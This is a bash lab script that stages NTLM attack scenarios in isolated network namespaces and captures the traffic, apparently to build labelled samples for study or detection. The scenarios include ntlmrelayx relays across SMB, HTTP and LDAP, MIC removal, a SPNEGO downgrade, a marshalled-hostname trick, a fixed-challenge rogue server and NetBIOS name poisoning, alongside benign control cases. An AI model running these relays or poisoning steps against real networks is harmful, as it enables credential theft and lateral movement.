# shellcheck shell=bash
# NTLM relayed between hosts of the laboratory: the victim talks to rogue, and rogue carries its tokens on to a server.
# The same challenge shows on two connections.
CLIENT='smbclient, impacket' SERVER='Samba smbd'
FILTER='not arp and not icmp6 and not port 5353 and host 10.77.0.66'

# relay TARGET LISTENER COMMAND...: ntlmrelayx on rogue, on port LISTENER (80 or 445), while the victim runs COMMAND.
relay() {
  local target=$1 port=$2 other=--no-smb-server pid
  shift 2
  [ "$port" = 80 ] || other=--no-http-server
  local arguments=(-t "$target" "$other" --no-wcf-server --no-raw-server --no-winrm-server --no-rpc-server
    --no-mssql-server --no-rdp-server -smb2support "${TAMPER[@]}")
  echo "# on rogue: ntlmrelayx.py ${arguments[*]}" >>"$COMMANDS"
  # Its prompt ends the program when its input does.
  (cd "$RUN/rogue" && sleep 14 | on rogue timeout -s INT 13 "$VENV/bin/python" -u "$VENV/bin/ntlmrelayx.py" \
    "${arguments[@]}" >"$WORK/relay.log" 2>&1) &
  pid=$!
  for _ in {1..60}; do
    ip netns exec lab-rogue ss -ltn "sport = :$port" | grep -q LISTEN && break
    sleep 0.2
  done
  sleep 0.5
  LIMIT=8 "$@"
  wait "$pid"
}
TAMPER=()
VICTIM_SMB=(smb //rogue.lab.test/data "${ALICE[@]}" "${NO_KERBEROS[@]}" -c ls)
VICTIM_HTTP=(python "$LAB/clients/http_auth.py" http://rogue.lab.test/x 'LAB\alice' "$PASSWORD" NTLM ntlm)

scenario 11-relay-smb-to-smb 'The victim opens a share on rogue, which carries the logon on to the file server.' \
  relay smb://10.77.0.11 445 "${VICTIM_SMB[@]}"
TAMPER=(--remove-mic)
scenario 11-relay-mic-removed 'The same, and rogue takes away the MIC and what asks for signing.' \
  relay smb://10.77.0.11 445 "${VICTIM_SMB[@]}"
TAMPER=()
CLIENT='pyspnego, impacket'
scenario 11-relay-http-to-smb 'The victim fetches a page from rogue, which carries the logon on to the file server.' \
  relay smb://10.77.0.11 80 "${VICTIM_HTTP[@]}"
SERVER='Apache httpd, mod_auth_gssapi, gss-ntlmssp'
CLIENT='smbclient, impacket'
scenario 11-relay-smb-to-http 'The victim opens a share on rogue, which carries the logon on to the web server.' \
  relay http://10.77.0.13/ntlm/ 445 "${VICTIM_SMB[@]}"
CLIENT='pyspnego, impacket'
scenario 11-relay-http-to-http 'The victim fetches a page from rogue, which carries the logon on to the web server.' \
  relay http://10.77.0.13/ntlm/ 80 "${VICTIM_HTTP[@]}"
SERVER='Samba AD DC'
scenario 11-relay-http-to-ldap-refused 'rogue wants to carry the logon on to LDAP by Sicily, which the server does not know: no relay takes place.' \
  relay ldap://10.77.0.10 80 "${VICTIM_HTTP[@]}"
unset FILTER

# No relay, though it looks like one at first sight.
CLIENT='smbclient' SERVER='Samba smbd'
two_servers() {
  smb //fs.lab.test/data "${ALICE[@]}" "${NO_KERBEROS[@]}" -c ls
  smb //dc1.lab.test/data "${ALICE[@]}" "${NO_KERBEROS[@]}" -c ls
}
scenario 11-no-relay-two-servers 'One user logs on to two servers within a second: two logons, no relay.' two_servers

# A host that logs on to itself.
CLIENT='smbclient' SERVER='Samba smbd'
to_itself() {
  local name=$1 words=$2
  begin "$name" || return 0
  tap fs tcpdump --immediate-mode -U -Z root -i lo -w "$WORK/capture.pcap" tcp port 445
  note smbclient //fs.lab.test/data "${ALICE[@]}" "${NO_KERBEROS[@]}" -c ls
  echo '# both on fs, where the capture is that of the interface lo' >>"$COMMANDS"
  on fs smbclient -s "$RUN/cl/smb.conf" //fs.lab.test/data "${ALICE[@]}" "${NO_KERBEROS[@]}" -c ls >"$WORK/output" 2>&1
  untap
  keep "$name" "$words" capture.pcap
}
to_itself 11-loopback 'A host logs on to itself by its own name, and the capture is taken there.'

# Mechanisms of the client overwritten on the way, so that NTLM alone is left.
SHIM='clients/overwrite_mechanisms.py stands between client and server'
overwritten() {
  local pid
  ip netns exec lab-cl nft -f - <<'END'
table ip between {
  chain out {
    type nat hook output priority -100;
    meta mark 1 accept
    ip daddr 10.77.0.11 tcp dport 445 redirect to :4450
  }
}
END
  echo '# on the client, for what goes to 10.77.0.11 port 445: overwrite_mechanisms.py 4450 10.77.0.11 445' >>"$COMMANDS"
  ip netns exec lab-cl /usr/bin/python3 "$LAB/clients/overwrite_mechanisms.py" 4450 10.77.0.11 445 >"$WORK/between.log" 2>&1 &
  pid=$!
  wait_for_port cl 4450
  "$@"
  kill "$pid"
  ip netns exec lab-cl nft delete table ip between
}
scenario 11-spnego-downgrade 'Kerberos is overwritten in the list of the client, and the server takes NTLM; the client notices by the MIC of the list.' \
  overwritten smb //fs.lab.test/data "${ALICE_UPN[@]}" -c ls

# What follows fs in this name is marshalled target information, as CredMarshalTargetInfo makes it of nothing.
CLIENT='smbclient' SERVER='Samba smbd, Samba AD DC' SHIM=''
scenario 11-marshalled-name 'The client is led to a name that Windows takes for that of fs. Here the KDC does not know it, and NTLM follows.' \
  smb //fs1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA.lab.test/data -I 10.77.0.11 "${ALICE_UPN[@]}" -c ls

# A tool that collects responses gives everybody one challenge.
CLIENT='smbclient' SERVER='impacket' SHIM=''
FILTER='not arp and not icmp6 and not port 5353 and host 10.77.0.66'

# collected CHALLENGE TIMES COMMAND...: with that server on rogue; an empty CHALLENGE is a new one each time.
collected() {
  local challenge=$1 times=$2 pid
  shift 2
  echo "# on rogue: rogue_smb.py $challenge" >>"$COMMANDS"
  # shellcheck disable=SC2086 # It may be none.
  ip netns exec lab-rogue "$VENV/bin/python" "$LAB/clients/rogue_smb.py" $challenge >"$WORK/rogue.log" 2>&1 &
  pid=$!
  wait_for_port rogue 445
  while [ "$times" -gt 0 ]; do
    "$@"
    times=$((times - 1))
  done
  kill "$pid"
}
scenario 11-rogue-server 'A server with the challenge that tables of responses are made for; three logons.' \
  collected 1122334455667788 3 smb //rogue.lab.test/data "${ALICE[@]}" "${NO_KERBEROS[@]}" -c ls

# Names that no DNS server knows are asked of the network, and whoever hears it may answer.
BROADCAST=(--option='name resolve order = bcast' -U "LAB/alice%$PASSWORD" --use-kerberos=off -c ls)
FILTER='(host 10.77.0.66 or udp port 137) and not arp and not icmp6 and not port 5353'
poisoned() {
  local pid
  echo '# on rogue: answer_names.py 10.77.0.66' >>"$COMMANDS"
  ip netns exec lab-rogue /usr/bin/python3 "$LAB/clients/answer_names.py" 10.77.0.66 >"$WORK/names.log" 2>&1 &
  pid=$!
  "$@"
  kill "$pid"
}
SHIM='clients/answer_names.py answers for every name'
scenario 11-name-poisoning 'The client asks the network for a name that nobody has; rogue answers with its own address and takes the logon.' \
  poisoned collected '' 1 smb //FILESRV/data "${BROADCAST[@]}"
SHIM='' SERVER='Samba smbd, Samba nmbd'
FILTER='(host 10.77.0.12 or udp port 137) and not arp and not icmp6 and not port 5353'
# with_alias COMMAND...: wg answers for another name of its own, as a file server after a move does.
with_alias() {
  sed -e "s/netbios name = WG/&\\n\\tnetbios aliases = ARCHIVE/" -e "s/interfaces = lo eth0/interfaces = eth0/" "$RUN/wg/smb.conf" >"$RUN/wg/alias.conf"
  echo '# on wg: nmbd with "netbios aliases = ARCHIVE"' >>"$COMMANDS"
  daemon nmbd-wg wg nmbd -s "$RUN/wg/alias.conf" -F --no-process-group --debug-stdout
  sleep 12
  "$@"
  stop nmbd-wg
}
scenario 11-no-poisoning-alias 'The client asks the network for a name, and the server answers that has it as a second name.' \
  with_alias smb //ARCHIVE/data --option='name resolve order = bcast' "${CAROL[@]}" "${NO_KERBEROS[@]}" -c ls
unset FILTER
